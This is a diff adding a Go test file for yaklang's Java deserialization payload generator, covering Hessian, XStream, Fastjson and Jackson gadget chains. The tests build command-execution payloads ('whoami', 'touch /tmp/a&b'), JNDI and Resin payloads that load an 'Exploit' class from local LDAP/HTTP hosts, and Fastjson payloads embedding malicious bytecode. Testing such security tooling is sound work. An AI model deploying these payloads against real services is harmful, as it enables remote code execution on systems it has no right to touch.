@@ -0,0 +1,150 @@
+package yso
+
+import (
+	"bytes"
+	"encoding/json"
+	"encoding/xml"
+	"strings"
+	"testing"
+
+	"github.com/yaklang/yaklang/common/yak/yaklib/codec"
+	"github.com/yaklang/yaklang/common/yserx"
+	"github.com/yaklang/yaklang/common/yserx/hessian"
+)
+
+func checkFormatPayload(t *testing.T, payload *FormatPayload, keywords ...string) {
+	raw, err := ToBytes(payload)
+	if err != nil {
+		t.Fatal(err)
+	}
+	switch payload.Format {
+	case FormatHessian:
+		objs, err := hessian.ParseHessian2(raw)
+		if err != nil {
+			t.Fatalf("parse %s payload failed: %v", payload.Verbose().Name, err)
+		}
+		if !bytes.Equal(hessian.MarshalHessian2(objs...), raw) {
+			t.Fatalf("%s payload is different after parsing", payload.Verbose().Name)
+		}
+		if _, err := ToHessian1Bytes(payload); err != nil {
+			t.Fatal(err)
+		}
+	case FormatXStream:
+		decoder := xml.NewDecoder(bytes.NewReader(raw))
+		for {
+			if _, err := decoder.Token(); err != nil {
+				if err.Error() != "EOF" {
+					t.Fatalf("%s payload is invalid xml: %v", payload.Verbose().Name, err)
+				}
+				break
+			}
+		}
+	case FormatJackson:
+		if !json.Valid(raw) {
+			t.Fatalf("%s payload is invalid json: %s", payload.Verbose().Name, raw)
+		}
+	}
+	dump, err := Dump(payload)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, keyword := range keywords {
+		if !strings.Contains(dump, keyword) {
+			t.Fatalf("%s payload should contain %s:\n%s", payload.Verbose().Name, keyword, dump)
+		}
+	}
+}
+
+func TestFormatGadgets(t *testing.T) {
+	for _, format := range []string{FormatHessian, FormatXStream, FormatFastjson, FormatJackson} {
+		gadgets := GetAllFormatGadget(format)
+		if len(gadgets) == 0 {
+			t.Fatalf("no %s gadget", format)
+		}
+		for _, gadget := range gadgets {
+			var payload *FormatPayload
+			var err error
+			switch f := gadget.Generator.(type) {
+			case func(options ...GenClassOptionFun) (*FormatPayload, error):
+				payload, err = f(SetRuntimeExecEvilClass("whoami"))
+			case func(cmd string) (*FormatPayload, error):
+				payload, err = f("touch /tmp/a&b")
+			default:
+				t.Fatalf("unexpected generator of %s", gadget.Name)
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if payload.Format != format || payload.Verbose().YakFun != "Get"+gadget.Name+"Payload" {
+				t.Fatalf("unexpected payload info of %s", gadget.Name)
+			}
+			checkFormatPayload(t, payload)
+		}
+	}
+	for _, gadget := range GetAllTemplatesGadget() {
+		if _, err := gadget(SetRuntimeExecEvilClass("whoami")); err != nil {
+			t.Fatal(err)
+		}
+	}
+	// the format gadgets are not java serialized objects, they are not listed with the java gadgets
+	for name, gadget := range AllGadgets {
+		if gadget.Format != FormatJavaSerialization {
+			t.Fatalf("%s of %s format should not be in AllGadgets", name, gadget.Format)
+		}
+	}
+	if len(GetAllGadget()) != len(AllGadgets) {
+		t.Fatal("GetAllGadget should only return the java gadgets")
+	}
+}
+
+func TestFormatGadgetsContent(t *testing.T) {
+	payload, err := GetHessianRomeSignedObjectPayload(SetRuntimeExecEvilClass("whoami"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	checkFormatPayload(t, payload, "com.sun.syndication.feed.impl.EqualsBean {", "java.security.SignedObject {", "thealgorithm = \"DSA\"")
+	// the content of SignedObject is the native java serialized chain
+	content := payload.Hessian[0].(*hessian.HessianMap).Entries[0].Key.(*hessian.HessianObject).Fields[1].Value.(*hessian.HessianObject).Fields[1].Value.(*hessian.HessianObject).Fields[0].Value.(*hessian.HessianBinary).Value
+	if _, err := yserx.ParseJavaSerialized(content); err != nil {
+		t.Fatal(err)
+	}
+
+	for _, payload := range GetAllJNDIPayload("ldap://127.0.0.1:1389/Exploit") {
+		checkFormatPayload(t, payload, "ldap://127.0.0.1:1389/Exploit")
+	}
+	checkFormatPayload(t, GetHessianResinPayload("http://127.0.0.1:8080/", "Exploit"), "com.caucho.naming.QName {", `classFactoryLocation = "http://127.0.0.1:8080/"`)
+
+	payload, err = GetXStreamEventHandlerPayload("touch /tmp/a&b")
+	if err != nil {
+		t.Fatal(err)
+	}
+	checkFormatPayload(t, payload, "<string>touch</string>", "<string>/tmp/a&amp;b</string>")
+
+	payload, err = GetFastjsonTemplatesImplPayload(SetRuntimeExecEvilClass("whoami"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var fastjson map[string]any
+	if err := json.Unmarshal(payload.Raw, &fastjson); err != nil {
+		t.Fatal(err)
+	}
+	if fastjson["@type"] != templatesImplClassName {
+		t.Fatalf("unexpected @type: %v", fastjson["@type"])
+	}
+	classBytes, err := codec.DecodeBase64(fastjson["_bytecodes"].([]any)[0].(string))
+	if err != nil || !bytes.HasPrefix(classBytes, []byte{0xca, 0xfe, 0xba, 0xbe}) {
+		t.Fatal("_bytecodes should be the base64 of class")
+	}
+
+	payload, err = GetFastjsonBCELPayload(SetRuntimeExecEvilClass("whoami"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	checkFormatPayload(t, payload, `"driverClassName":"$$BCEL$$`)
+	if _, err := ToJson(payload); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := ToHessian1Bytes(payload); err == nil {
+		t.Fatal("fastjson payload should not be converted to hessian 1.0")
+	}
+}